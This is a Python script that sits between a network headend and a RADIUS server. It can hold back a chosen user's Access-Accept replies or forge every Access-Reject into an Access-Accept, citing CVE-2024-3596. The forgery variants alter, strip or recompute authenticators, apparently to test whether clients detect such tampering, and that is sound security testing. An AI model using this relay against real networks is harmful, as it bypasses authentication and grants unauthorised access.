#!/usr/bin/env python3
"""Who stands between the headend and a RADIUS server.

radius_between.py ADDRESS PORT SERVER SERVER-PORT SECRET hold USER SECONDS   keeps each Access-Accept of USER back that long
radius_between.py ADDRESS PORT SERVER SERVER-PORT SECRET forge FORGERY       makes every Access-Reject an Access-Accept (CVE-2024-3596):

  code         the code alone, as who knows nothing could
  collision    ... and the Response Authenticator that a chosen-prefix collision would give (computed with SECRET here)
  altered      ... and another Message-Authenticator
  stripped     ... and no Message-Authenticator
  proxy-state  ... and none, with the collision's blocks where the published attack has them

Prints a line for every Access-Request: `request USER DIGEST`, `again USER DIGEST` for one that came before; `held`, `released`, `forged`.
"""
import hashlib
import heapq
import os
import select
import socket
import struct
import sys
import time

ACCESS_REQUEST, ACCESS_ACCEPT, ACCESS_REJECT = 1, 2, 3
USER_NAME, PROXY_STATE, EAP_MESSAGE, MESSAGE_AUTHENTICATOR = 1, 33, 79, 80
EAP_SUCCESS, EAP_FAILURE = 3, 4


def attributes(packet):
    at = 20
    while at + 2 <= len(packet) and packet[at + 1] >= 2:
        yield packet[at], packet[at + 2:at + packet[at + 1]]
        at += packet[at + 1]


def user_of(packet):
    return next((value.decode(errors="replace") for kind, value in attributes(packet) if kind == USER_NAME), "?")


def forge(reply, request, secret, forgery):
    if forgery == "code":
        return bytes([ACCESS_ACCEPT]) + reply[1:]
    body = b""
    for kind, value in attributes(reply):
        if kind == MESSAGE_AUTHENTICATOR:
            if forgery in ("stripped", "proxy-state"):
                continue
            if forgery == "altered":
                value = os.urandom(16)
        elif kind == EAP_MESSAGE and value[:1] == bytes([EAP_FAILURE]):
            value = bytes([EAP_SUCCESS]) + value[1:]
        body += bytes([kind, 2 + len(value)]) + value
    if forgery == "proxy-state":
        body += bytes([PROXY_STATE, 66]) + os.urandom(64)
    header = struct.pack("!BBH", ACCESS_ACCEPT, reply[1], 20 + len(body))
    return header + hashlib.md5(header + request[4:20] + body + secret).digest() + body


def main():
    address, port, server, server_port, secret, mode = sys.argv[1:7]
    secret, front, backs, waiting, seen = secret.encode(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM), {}, [], set()
    front.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    front.bind((address, int(port)))
    pending = {}
    print("ready", flush=True)
    while True:
        timeout = max(0, waiting[0][0] - time.monotonic()) if waiting else None
        readable, _, _ = select.select([front, *[back for back in backs.values()]], [], [], timeout)
        while waiting and waiting[0][0] <= time.monotonic():
            _, _, reply, client = heapq.heappop(waiting)
            front.sendto(reply, client)
            print("released", flush=True)
        for ready in readable:
            packet, peer = ready.recvfrom(4096)
            if len(packet) < 20:
                continue
            if ready is front:
                if packet[0] == ACCESS_REQUEST:
                    digest = hashlib.sha256(packet).hexdigest()[:16]
                    print("again" if digest in seen else "request", user_of(packet), digest, flush=True)
                    seen.add(digest)
                if peer not in backs:
                    # One socket for each of the headend's, so that identifiers do not meet.
                    back = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                    back.bind((address, 0))
                    back.connect((server, int(server_port)))
                    backs[peer] = back
                pending[peer, packet[1]] = packet
                backs[peer].send(packet)
                continue
            client = next(peer for peer, back in backs.items() if back is ready)
            request = pending.get((client, packet[1]))
            if request is None:
                continue
            if mode == "hold" and packet[0] == ACCESS_ACCEPT and user_of(request) == sys.argv[7]:
                print("held", flush=True)
                heapq.heappush(waiting, (time.monotonic() + float(sys.argv[8]), len(seen), packet, client))
                continue
            if mode == "forge" and packet[0] == ACCESS_REJECT:
                packet = forge(packet, request, secret, sys.argv[7])
                print("forged", flush=True)
            front.sendto(packet, client)


if __name__ == "__main__":
    main()
